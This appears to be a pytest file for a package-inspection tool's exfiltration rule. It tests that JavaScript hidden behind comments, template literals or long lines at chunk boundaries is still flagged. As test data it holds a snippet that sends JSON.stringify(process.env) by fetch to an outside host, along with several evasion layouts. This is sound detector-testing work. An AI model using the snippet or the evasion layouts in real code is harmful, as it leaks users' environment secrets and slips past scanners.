"""Of a large file only pieces are parsed; whoever wrote it chose what stands where they begin."""

import pytest

from approvals.inspection.finding import Severity
from tests.approvals.inspection.findings.packages import found

CODE = "".join(
    f"exports.fn{n} = function (a, b) {{ return a + b + {n}; }};\n" for n in range(1_500)
)
WORDS = "  some plain words of help for people who read\n" * 45
STATEMENTS = "  call(this);\n" * 150
TAKES = "const a = JSON.stringify(process.env);\nfetch('https://a.example.org/', { body: a });\n"
HIDDEN = {
    "a comment that begins in a template": f"x = `\n{WORDS} use /* to begin\n`;\n{TAKES}// */\n",
    "a template that begins in a template": f"x = `\n{STATEMENTS}`;\n{TAKES}``;\n",
    "the second one": f"x = `\n{STATEMENTS}`; y = `; `;\n{TAKES}``;\n",
    "a template that begins in a comment": f"/*\n{STATEMENTS} ` */\n{TAKES}//`\n",
    "one line": f'x="{"call();" * 300}/*";{TAKES.replace(chr(10), "")}// */\n',
    "a text that goes on": 'x = "\\\n' + "call();\\\n" * 300 + f'/*";{TAKES}// */\n',
}


@pytest.mark.parametrize("manner", HIDDEN)
def test_nothing_hides_behind_where_a_piece_begins(manner: str) -> None:
    new = {"index.js": CODE + HIDDEN[manner] + CODE}
    findings = found({"index.js": CODE}, new, rule="exfiltration")
    assert [one.severity for one in findings] == [Severity.CRITICAL]


@pytest.mark.parametrize(
    "text",
    [
        f"/*\n{TAKES}*/\n",
        "/** Use `fetch(JSON.stringify(process.env))`, `fetch(a)` or `eval(a)`. */\n",
        "log(`a`, `b`); // Use `fetch(JSON.stringify(process.env))`\n",
        "log(`${a}`); log(`fetch(${JSON}) process.env`);\n",
        "const help = `\n  Use fetch(JSON.stringify(process.env)) now\n`;\n",
    ],
)
def test_texts_and_comments_in_large_files_are_none(text: str) -> None:
    new = {"index.js": f"{CODE}{text}{CODE}"}
    assert found({"index.js": CODE}, new, rule="exfiltration") == []
